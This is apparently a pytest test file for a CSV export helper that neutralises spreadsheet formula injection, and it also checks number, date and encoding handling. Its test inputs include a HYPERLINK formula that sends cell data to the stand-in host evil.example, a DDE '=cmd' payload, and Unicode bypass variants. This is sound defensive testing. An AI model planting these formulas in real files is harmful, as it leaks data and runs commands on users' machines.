import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from console.csv import csv_lines, csvsafe


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"ok")', '\'=HYPERLINK("http://evil.example/?"&A1,"ok")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\ttab", "'\ttab"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹦1+1", "'﹦1+1"),
        ("﹢1", "'﹢1"),
        ("﹣1", "'﹣1"),
        ("﹫SUM(A1)", "'﹫SUM(A1)"),
        ("\u202e=1+1", "'\u202e=1+1"),
        ("\xad=1+1", "'\xad=1+1"),
        ("\u2066\u061c=1+1", "'\u2066\u061c=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\xa0=1+1", "'\xa0=1+1"),
        ("- a list", "'- a list"),
        ("-", "'-"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1e5", "'-1e5"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_kept_from_it(cell, safe):
    assert csvsafe(cell) == safe


@pytest.mark.parametrize(
    "cell",
    [
        "plain",
        'plain, "quoted"\nline',
        "a=b",
        "1+1",
        "mail@example.com",
        "",
        "-12.50",
        "-3",
        "12",
        "Inês Okafor",
        "'quoted'",
    ],
)
def test_honest_text_and_negative_numbers_are_left_alone(cell):
    assert csvsafe(cell) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (-1250, "-1250"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0E-9"), "0.000000000"),
        (date(2026, 11, 24), "2026-11-24"),
        (datetime(2026, 11, 24, 14, 5, 7, 9, tzinfo=UTC), "2026-11-24T14:05:07Z"),
        (datetime(2026, 11, 24, 23, 5, 7, tzinfo=ZoneInfo("Asia/Tokyo")), "2026-11-24T14:05:07Z"),
    ],
)
def test_numbers_are_bare_and_times_in_utc(value, cell):
    assert csvsafe(value) == cell


def test_a_float_is_refused():
    with pytest.raises(TypeError, match="is a float"):
        csvsafe(0.1)


def test_what_no_file_can_hold_becomes_a_visible_mark():
    assert csvsafe("a\x00b\ud83d") == "a\ufffdb\ufffd"


def test_a_file_keeps_quotes_and_line_breaks_in_their_cell_and_neutralises_its_heads():
    rows: list[list[object]] = [["=1+1", Decimal("-12.50"), 'plain, "quoted"\nline'], ["x", None, "\r=2"]]
    lines = list(csv_lines(header=["title", "amount", "=cmd|' /C calc'!A0"], rows=rows))

    assert len(lines) == 3
    assert lines[0].startswith("\ufeff")
    text = "".join(lines).removeprefix("\ufeff")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["title", "amount", "'=cmd|' /C calc'!A0"],
        ["'=1+1", "-12.50", 'plain, "quoted"\nline'],
        ["x", "", "'\r=2"],
    ]


def test_lines_are_made_one_at_a_time():
    def rows():
        yield ["first"]
        raise AssertionError("the second row was asked for too early")

    lines = csv_lines(header=["a"], rows=rows())

    assert [next(lines), next(lines)] == ["\ufeffa\r\n", "first\r\n"]
